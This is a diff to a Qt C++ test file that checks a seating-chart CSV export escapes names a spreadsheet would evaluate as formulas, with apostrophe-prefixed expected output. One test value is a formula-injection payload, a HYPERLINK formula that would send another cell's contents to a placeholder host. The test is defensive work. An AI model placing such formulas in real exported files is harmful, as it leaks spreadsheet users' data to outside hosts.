@@ -69,23 +69,32 @@ private slots:
 
 void TestTables::csvBytes()
 {
+    // A spreadsheet would evaluate a name starting with = + - @ TAB or CR.
     const QStringList seats = seatsWith({{1, QStringLiteral("山田 太郎")},
                                          {2, QStringLiteral(" ")}, // an empty seat
+                                         {3, QStringLiteral("=HYPERLINK(\"http://x/?\"&D7)")},
+                                         {4, QStringLiteral("+1")},
                                          {5, QStringLiteral("佐藤,花子")},
                                          {6, QStringLiteral("\"ｱｲ\"")},
+                                         {9, QStringLiteral("-山田")},
+                                         {10, QStringLiteral("@A1")},
+                                         {11, QStringLiteral("\t山田")},
+                                         {12, QStringLiteral("\r山田")},
+                                         {13, QStringLiteral("山田=1")},
                                          {27, QStringLiteral("一\r\n二")},
                                          {28, QStringLiteral(" 前後 ")}});
     const QByteArray expected =
         QByteArray("\xEF\xBB\xBF") + QStringLiteral("座席番号,列,列内の位置,氏名\r\n"
                                                     "1,1,1,山田 太郎\r\n"
                                                     "2,1,2,\r\n"
-                                                    "3,1,3,\r\n"
-                                                    "4,1,4,\r\n"
+                                                    "3,1,3,\"'=HYPERLINK(\"\"http://x/?\"\"&D7)\"\r\n"
+                                                    "4,1,4,'+1\r\n"
                                                     "5,2,1,\"佐藤,花子\"\r\n"
                                                     "6,2,2,\"\"\"ｱｲ\"\"\"\r\n"
                                                     "7,2,3,\r\n8,2,4,\r\n"
-                                                    "9,3,1,\r\n10,3,2,\r\n11,3,3,\r\n12,3,4,\r\n"
-                                                    "13,4,1,\r\n14,4,2,\r\n15,4,3,\r\n16,4,4,\r\n"
+                                                    "9,3,1,'-山田\r\n10,3,2,'@A1\r\n11,3,3,'\t山田\r\n"
+                                                    "12,3,4,\"'\r山田\"\r\n13,4,1,山田=1\r\n"
+                                                    "14,4,2,\r\n15,4,3,\r\n16,4,4,\r\n"
                                                     "17,5,1,\r\n18,5,2,\r\n19,5,3,\r\n20,5,4,\r\n"
                                                     "21,6,1,\r\n22,6,2,\r\n23,6,3,\r\n24,6,4,\r\n"
                                                     "25,7,1,\r\n26,7,2,\r\n"
@@ -99,7 +108,7 @@ void TestTables::csvBytes()
 // with a strict reader, the clipboard rows with the reader the roster editor pastes with.
 void TestTables::csvAndClipboardGiveNamesBack()
 {
-    const QStringList pieces{"山", "田", "ｱ", "か", " ", "　", ",", "\"", "\t", "\r\n", "\n", "a", "髙"};
+    const QStringList pieces{"山", "田", "ｱ", "か", " ", "　", ",", "\"", "\t", "\r\n", "\n", "a", "髙", "=", "-"};
     QRandomGenerator random(20261206);
     for (int round = 0; round < 200; ++round) {
         QStringList seats;
@@ -110,8 +119,10 @@ void TestTables::csvAndClipboardGiveNamesBack()
             seats.append(name);
         }
         QStringList shown;
-        for (const QString &name : seats)
-            shown.append(name.trimmed().isEmpty() ? QString() : name);
+        for (const QString &name : seats) {
+            const bool formula = QStringLiteral("=-\t\r").contains(name.left(1));
+            shown.append(name.trimmed().isEmpty() ? QString() : formula ? u'\'' + name : name);
+        }
 
         const QByteArray bytes = chartCsv(seats);
         QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
